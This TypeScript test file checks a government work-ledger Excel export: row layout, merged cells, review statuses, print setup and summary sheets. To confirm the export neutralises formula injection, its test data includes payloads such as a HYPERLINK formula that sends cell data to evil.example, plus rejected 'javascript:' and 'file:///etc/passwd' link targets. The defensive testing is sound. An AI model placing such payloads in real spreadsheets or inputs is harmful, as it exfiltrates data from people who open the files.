/**
 * ledger.export read back with exceljs: every assignment of every round in
 * scope, the table's merged cells where they belong, statuses and reviews,
 * and report texts, file names and link titles that look like formulas
 * written as text (string cells; no formula anywhere in the sheet XML).
 */
import type ExcelJS from 'exceljs';
import { db } from '../../cloudfunctions/common/cloud';
import { buildPlanDocs } from '../../cloudfunctions/common/domain/plan-docs';
import { landscapeScale, textHeight } from '../../cloudfunctions/common/domain/print-layout';
import { LEDGER_COLUMNS, LEDGER_PAPER, LINKS_SHEET, SUMMARY_SHEETS } from '../../cloudfunctions/ledger/src/actions/export';
import { BODY_PT, linkTarget, OPEN_LINK_TEXT } from '../../cloudfunctions/ledger/src/xlsx';
import type { ReportDoc } from '../../cloudfunctions/common/records';
import { DIRECTORY, TABLE_2021 } from '../../cloudfunctions/common/table';
import { uploadPrefix, type RoundView } from '../../miniprogram/shared/api';
import type { LedgerExportResult } from '../../miniprogram/shared/ledger-api';
import {
  CONTACTS,
  approveContacts,
  assignmentOf,
  createRound,
  evidenceOf,
  inDays,
  picture,
  reportInput,
  startUploader,
} from '../helpers/journey';
import { cellTypeInXml, fetchFile, quotePrefixed, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
import { ADMIN, okData, startTestCloud, type TestCloud } from '../helpers/local-cloud';

const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
/** Tasks on which 市司法局 reports one injection each (11 and 25 name it; the others reach it as a department). */
const TASKS = [11, 25, 2, 3, 18, 19];
const SSFJ = CONTACTS.ssfj;
/** A link as stored by an older client: a query with `&` and Chinese, written as typed. */
const STORED_LINK = 'https://www.zoucheng.gov.cn/search?q=政务公开&page=2';

let t: TestCloud;
let q3: RoundView;
let late: RoundView;
let whole: LedgerExportResult;
let xlsx: Buffer;
let sheet: ExcelJS.Worksheet;
let workbook: ExcelJS.Workbook;
/** Sheet row of (task, unit, round name). */
const rowOf = new Map<string, number>();

beforeAll(async () => {
  t = startTestCloud();
  await t.seed();
  const up = await startUploader(t);
  await approveContacts(t, ['ssfj', 'xiangcheng']);
  q3 = await createRound(t, { name: '第三季度', dueDate: inDays(20) });
  late = await createRound(t, { name: '上半年', dueDate: inDays(-3), scope: [24, 25] });
  // What a phone can send: leading tabs and CRs are trimmed by report.submit, so those two
  // arrive as stored data (an older version, an edit in the console) further down.
  for (const [i, text] of INJECTIONS.slice(0, 4).entries()) {
    const photo = picture(`photo ${i}`);
    const pdf = Buffer.from(`%PDF-1.4 ${i}`);
    const img = await up.upload(SSFJ.openid, `${uploadPrefix('ssfj', CONTACTS.ssfj.openid)}ledger/${i}.jpg`, photo);
    const doc = await up.upload(SSFJ.openid, `${uploadPrefix('ssfj', CONTACTS.ssfj.openid)}ledger/${i}.pdf`, pdf);
    okData(
      await t.as(SSFJ.openid)(
        'report.submit',
        reportInput(assignmentOf(TASKS[i] as number, 'ssfj'), q3.id, `ledger-export-${i}`, {
          text,
          images: [evidenceOf(img, `${text}.jpg`, photo)],
          files: [evidenceOf(doc, `${text}.pdf`, pdf)],
          links: [{ url: 'https://www.zoucheng.gov.cn/art/1.html', title: text }],
        }),
      ),
    );
  }
  const at = new Date();
  for (const [i, text] of INJECTIONS.slice(4).entries()) {
    const taskNo = TASKS[4 + i] as number;
    const doc: ReportDoc = {
      _id: `${assignmentOf(taskNo, 'ssfj')}-${q3.id}-v1`,
      assignmentId: assignmentOf(taskNo, 'ssfj'),
      planId: 'plan-2021',
      taskNo,
      unitId: 'ssfj',
      roundId: q3.id,
      version: 1,
      text,
      progress: 'ongoing',
      evidence: {
        images: [{ fileID: 'cloud://local-dev.x/units/ssfj/gone.jpg', name: `${text}.jpg`, size: 1 }],
        files: [],
        links: [{ url: STORED_LINK, title: text }],
      },
      secrecyConfirmed: true,
      state: 'submitted',
      submittedBy: SSFJ.openid,
      submittedByName: SSFJ.name,
      submittedAt: at,
      requestKey: `${SSFJ.openid}:stored-${i}`,
    };
    await db.collection('reports').add({ data: doc });
  }
  // Two versions on task 25: the ledger shows the latest; one approved with a note.
  okData(await t.as(SSFJ.openid)('report.submit', reportInput(assignmentOf(25, 'ssfj'), late.id, 'ledger-late-1', { text: '第一稿' })));
  const v2 = okData(
    await t.as(SSFJ.openid)('report.submit', reportInput(assignmentOf(25, 'ssfj'), late.id, 'ledger-late-2', { text: '第二稿' })),
  );
  okData(await t.as(ADMIN)('review.decide', { reportId: v2.report.id, decision: 'approve', note: '材料齐全' }));

  whole = okData(await t.ledger(ADMIN)('ledger.export', { year: 2021 }));
  xlsx = await fetchFile(whole);
  workbook = await readWorkbook(xlsx);
  sheet = workbook.getWorksheet('工作台账') as ExcelJS.Worksheet;
  for (let r = 4; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    // A merged cell reads as its master (the first row of the merge).
    const text = (col: number) => row.getCell(col).master.text;
    rowOf.set(`${text(3)}|${text(6)}|${text(8)}`, r);
  }
});
afterAll(() => t.close());

/** The 2021 assignments as the table and the directory define them. */
const { assignments } = buildPlanDocs(
  TABLE_2021,
  DIRECTORY.units.map((u) => ({ id: u.code, name: u.name, kind: u.kind, active: true })),
  DIRECTORY.groups,
);

test('one row per assignment per round in scope, and nothing else', () => {
  const expected = [
    ...assignments.map((a) => `${a.taskNo}|${a.unitName}|第三季度`),
    ...assignments.filter((a) => a.taskNo === 24 || a.taskNo === 25).map((a) => `${a.taskNo}|${a.unitName}|上半年`),
  ];
  expect(whole).toMatchObject({ rows: expected.length, tasks: 44, rounds: 2, name: '邹城市2021年政务公开工作台账（全年）.xlsx' });
  expect(whole.size).toBe(xlsx.length);
  expect([...rowOf.keys()].sort()).toEqual(expected.sort());
  expect(sheet.rowCount).toBe(3 + expected.length);
});

/** A cell's text as written (a merged cell's slave reads its master's rich text). */
function plain(v: ExcelJS.CellValue): string {
  if (v && typeof v === 'object' && 'richText' in v) return v.richText.map((t) => t.text).join('');
  return v === null || v === undefined ? '' : String(v);
}

test('the table’s layout: 大项, 小项, 序号, 任务要求 and 责任单位 named on each task and merged over its rows, a unit over its rounds', () => {
  const merges = new Set(sheet.model.merges);
  const rowsOfTask = (no: number) => [...rowOf].filter(([k]) => k.startsWith(`${no}|`)).map(([, r]) => r);
  const span = (nos: number[]) => {
    const rows = nos.flatMap(rowsOfTask);
    return [Math.min(...rows), Math.max(...rows)];
  };
  // Labels repeat per task, and per page within a long task (a merged cell spanning a page
  // break prints on one page only): the pieces of column A tile the task's rows, each labelled.
  const pieces = (col: string, [s, e]: number[]) =>
    [...merges]
      .map((m) => new RegExp(`^${col}(\\d+):${col}(\\d+)$`).exec(m))
      .filter((m): m is RegExpExecArray => m !== null)
      .map((m) => [Number(m[1]), Number(m[2])])
      .filter(([a]) => a! >= s! && a! <= e!)
      .sort((a, b) => a[0]! - b[0]!);
  for (const no of [1, 17]) {
    const [s, e] = span([no]);
    const parts = pieces('A', [s!, e!]);
    expect(parts[0]?.[0]).toBe(s);
    expect(parts[parts.length - 1]?.[1]).toBe(e);
    parts.forEach(([a, b], i) => {
      if (i > 0) expect(a).toBe((parts[i - 1]?.[1] ?? 0) + 1);
      expect(b).toBeGreaterThanOrEqual(a!);
      expect(sheet.getCell(`A${a}`).text).toBe('一、深化重点领域政府信息公开');
      expect(sheet.getCell(`C${a}`).text).toBe(String(no));
    });
  }
  // Task 1 (34 units) is longer than an A3 page: it is printed in parts.
  expect(pieces('A', span([1])).length).toBeGreaterThan(1);
  for (const no of [21, 24]) expect(sheet.getCell(`B${span([no])[0]}`).text).toBe('(九)积极回应社会关切');
  const [s25, e25] = span([25]);
  for (const col of 'ABCDE') expect(merges).toContain(`${col}${s25}:${col}${e25}`);
  const [s24] = span([24]);
  expect(sheet.getCell(`D${s24}`).text).toBe(TABLE_2021.tasks[23]?.requirement);
  expect(sheet.getCell(`E${s24}`).text).toBe('市政府办公室牵头,市政府各部门、各镇街配合');
  // 市司法局 on task 24: two rounds in due-date order, one unit cell.
  const ssfj24 = rowOf.get('24|市司法局|上半年') as number;
  expect(rowOf.get('24|市司法局|第三季度')).toBe(ssfj24 + 1);
  // One merged unit cell, unless a page ends between the rounds: then each part names the unit.
  if (merges.has(`F${ssfj24}:F${ssfj24 + 1}`)) expect(merges).toContain(`G${ssfj24}:G${ssfj24 + 1}`);
  else for (const r of [ssfj24, ssfj24 + 1]) expect(plain(sheet.getCell(`F${r}`).value)).toBe('市司法局');
  // 市司法局 on task 25: two rounds, one unit cell.
  const ssfj25 = rowOf.get('25|市司法局|上半年') as number;
  expect(merges).toContain(`F${ssfj25}:F${ssfj25 + 1}`);
  // Task 4 has one unit in one round: a single row, nothing merged.
  const [s4, e4] = span([4]);
  expect(s4).toBe(e4);
  expect([...merges].some((m) => m.startsWith(`C${s4}:`))).toBe(false);
  // Frozen header, A3 landscape one page wide at a legible scale, header on every page, page numbers.
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
  expect(sheet.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
  expect(
    landscapeScale(
      LEDGER_COLUMNS.map((c) => c.width),
      LEDGER_PAPER,
      0.4,
    ) * BODY_PT,
  ).toBeGreaterThanOrEqual(900);
  expect(sheet.headerFooter.oddFooter).toContain('&P');
  // Every body row has an explicit height that fits its longest text.
  for (let r = 4; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    const own = textHeight(
      LEDGER_COLUMNS.map((c, i) => ({ text: i >= 5 ? plain(row.getCell(i + 1).value) : '', width: c.width })),
      BODY_PT,
    );
    expect([r, row.height >= own]).toEqual([r, true]);
  }
  expect(workbook.creator).toBe('邹城市人民政府办公室');
});

test('status, latest version, review and evidence of each row', () => {
  const row = (key: string) => sheet.getRow(rowOf.get(key) as number);
  const r25 = row('25|市司法局|上半年');
  expect(r25.getCell(10).text).toBe('已通过');
  expect(r25.getCell(12).text).toBe('第二稿');
  expect(r25.getCell(13).text).toBe(SSFJ.name);
  expect(r25.getCell(15).text).toBe('测试管理员');
  expect(r25.getCell(17).text).toBe('通过：材料齐全');
  // The late round is past due: a unit that never reported is overdue; the open round is not.
  expect(row('24|香城镇|上半年').getCell(10).text).toBe('已逾期');
  expect(row('24|香城镇|第三季度').getCell(10).text).toBe('待报送');
  expect(row('11|市司法局|第三季度').getCell(10).text).toBe('已报送');
  expect(row('11|市司法局|第三季度').getCell(18).text).toBe(
    `图片：${INJECTIONS[0]}.jpg\n文件：${INJECTIONS[0]}.pdf\n链接：${INJECTIONS[0]} https://www.zoucheng.gov.cn/art/1.html\n（链接尚未检查）`,
  );
});

test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as number]))(
  'report text %s is a string cell that stays text, and so are its file names and link title',
  (_label, text, taskNo) => {
    const r = rowOf.get(`${taskNo}|市司法局|第三季度`) as number;
    const xml = sheetXml(xlsx, 1);
    // XML carries a line break as LF: a CR arrives as one. Shown exactly as typed (no
    // apostrophe): the cell's style carries the quote prefix, so it stays text when edited.
    expect(sheet.getCell(`L${r}`).text).toBe(text.replace(/\r/g, '\n'));
    expect(cellTypeInXml(xml, `L${r}`)).toBe('inlineStr');
    expect(quotePrefixed(xlsx, xml, `L${r}`)).toBe(true);
    // An ordinary text next to it has no quote prefix.
    expect(quotePrefixed(xlsx, xml, `J${r}`)).toBe(false);
    const evidence = sheet.getCell(`R${r}`).text;
    expect(evidence).toContain(`${text.replace(/\r/g, '\n')}.jpg`);
    expect(evidence).toContain(`链接：${text.replace(/\r/g, '\n')} https://`);
    expect(cellTypeInXml(xml, `R${r}`)).toBe('inlineStr');
  },
);

test('no formula anywhere: every sheet’s XML is free of <f> elements', () => {
  expect(workbook.worksheets.map((w) => w.name)).toEqual(['工作台账', LINKS_SHEET, ...SUMMARY_SHEETS.map((s) => s.name)]);
  for (const no of [1, 2, 3, 4]) expect(sheetXml(xlsx, no)).not.toMatch(/<f[\s>]/);
});

test('the 证明链接 sheet: one row per link in ledger order, its URL as written and a cell that opens it', () => {
  const links = workbook.getWorksheet(LINKS_SHEET) as ExcelJS.Worksheet;
  const rows = [...Array(links.rowCount - 3).keys()].map((i) => links.getRow(i + 4));
  // Ledger order: 市司法局's reports with a link, one each.
  expect(rows.map((r) => r.getCell(1).value)).toEqual([...TASKS].sort((a, b) => a - b));
  const xml = sheetXml(xlsx, 2);
  const rels = unzip(xlsx).get('xl/worksheets/_rels/sheet2.xml.rels')?.toString('utf8') ?? '';
  for (const [i, text] of INJECTIONS.entries()) {
    const row = rows.find((r) => r.getCell(1).value === TASKS[i]) as ExcelJS.Row;
    expect(row.getCell(2).text).toBe('市司法局');
    expect(row.getCell(3).text).toBe('第三季度');
    // The title exactly as typed, kept text by the quote-prefix style, as in the ledger.
    expect(row.getCell(4).text).toBe(text.replace(/\r/g, '\n'));
    expect(cellTypeInXml(xml, `D${row.number}`)).toBe('inlineStr');
    const url = i < 4 ? 'https://www.zoucheng.gov.cn/art/1.html' : STORED_LINK;
    expect(row.getCell(5).text).toBe(url);
    // The target is the parsed address (percent-encoded), the text what the contact wrote.
    const href = new URL(url).href;
    expect(row.getCell(6).value).toEqual({ text: OPEN_LINK_TEXT, hyperlink: href });
    expect(row.getCell(7).text).toBe('链接尚未检查');
    // The hyperlink is the sheet's relationship to an external target, never a HYPERLINK() formula.
    const rId = new RegExp(`<hyperlink ref="F${row.number}" r:id="(rId\\d+)"`).exec(xml)?.[1];
    expect(rId).toBeDefined();
    expect(rels).toContain(
      `Id="${rId}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${href.replace(/&/g, '&amp;')}" TargetMode="External"`,
    );
  }
  expect(links.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
  // The ledger's cells keep their text and carry no link: LibreOffice would print them on one line.
  expect(sheetXml(xlsx, 1)).not.toContain('<hyperlink ');
});

test('only a web address becomes a link target', () => {
  expect(linkTarget('https://www.zoucheng.gov.cn/a b?x=1&y=中')).toBe('https://www.zoucheng.gov.cn/a%20b?x=1&y=%E4%B8%AD');
  expect(linkTarget('http://例子.政务/')).toBe('http://xn--fsqu00a.xn--zfr164b/');
  for (const bad of ['javascript:alert(1)', 'file:///etc/passwd', 'ftp://a.gov.cn/', 'www.zoucheng.gov.cn', ''])
    expect(linkTarget(bad)).toBeNull();
});

test('the summary counts per task and per unit, in directory order', () => {
  const [byTask, byUnit] = SUMMARY_SHEETS.map((s) => workbook.getWorksheet(s.name) as ExcelJS.Worksheet) as [
    ExcelJS.Worksheet,
    ExcelJS.Worksheet,
  ];
  const rowsOf = (sh: ExcelJS.Worksheet) => [...Array(sh.rowCount - 3).keys()].map((i) => sh.getRow(i + 4));
  const tasks = rowsOf(byTask);
  expect(tasks.at(-1)?.getCell(1).text).toBe('合计');
  expect(tasks.at(-1)?.getCell(3).value).toBe(whole.rows);
  const t25 = tasks.find((r) => r.getCell(1).value === 25);
  // 市司法局 in two rounds: one approved, one submitted (its q3 report).
  expect([t25?.getCell(3).value, t25?.getCell(4).value, t25?.getCell(5).value]).toEqual([2, 1, 1]);
  const units = rowsOf(byUnit);
  expect(units.at(-1)?.getCell(3).value).toBe(whole.rows);
  expect(units.slice(0, -1).map((r) => r.getCell(2).text)).toEqual(DIRECTORY.units.map((u) => u.name));
  // Printed: A4 landscape at the body size, each sheet's own header on every page, every row as high as its text.
  for (const [i, sh] of [byTask, byUnit].entries()) {
    const columns = SUMMARY_SHEETS[i]!.columns;
    expect(sh.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1, printTitlesRow: '3:3' });
    expect(
      landscapeScale(
        columns.map((c) => c.width),
        9,
        0.4,
      ),
    ).toBe(100);
    for (const row of rowsOf(sh)) {
      const own = textHeight(
        columns.map((c, j) => ({ text: row.getCell(j + 1).text, width: c.width })),
        BODY_PT,
      );
      expect([sh.name, row.number, (row.height ?? 0) >= own]).toEqual([sh.name, row.number, true]);
    }
  }
});

test('one round: its rows only, every task still listed, the round in the name', async () => {
  const one = okData(await t.ledger(ADMIN)('ledger.export', { roundId: late.id }));
  const rows = assignments.filter((a) => a.taskNo === 24 || a.taskNo === 25).length;
  expect(one).toMatchObject({ name: '邹城市2021年政务公开工作台账（上半年）.xlsx', tasks: 44, rounds: 1, rows });
  const wb = await readWorkbook(await fetchFile(one));
  const s = wb.getWorksheet('工作台账') as ExcelJS.Worksheet;
  const rounds = new Set<string>();
  for (let r = 4; r <= s.rowCount; r++) if (s.getRow(r).getCell(8).text) rounds.add(s.getRow(r).getCell(8).text);
  expect([...rounds]).toEqual(['上半年']);
  // 44 tasks: 42 with a placeholder row, tasks 24 and 25 with their units' rows.
  expect(s.rowCount).toBe(3 + 42 + one.rows);
});

test('refusals name the field: an unknown year or round, a round of another year', async () => {
  const ledger = t.ledger(ADMIN);
  expect(await ledger('ledger.export', { year: 2030 })).toMatchObject({ ok: false, code: 'NOT_FOUND', field: 'year' });
  expect(await ledger('ledger.export', { roundId: 'no-such-round' })).toMatchObject({ ok: false, code: 'NOT_FOUND', field: 'roundId' });
  expect(await ledger('ledger.export', { year: 2022, roundId: q3.id })).toMatchObject({
    ok: false,
    code: 'INVALID_INPUT',
    field: 'roundId',
  });
  expect(await ledger('ledger.export', { roundId: 'a/b' } as never)).toMatchObject({ ok: false, code: 'INVALID_INPUT', field: 'roundId' });
});
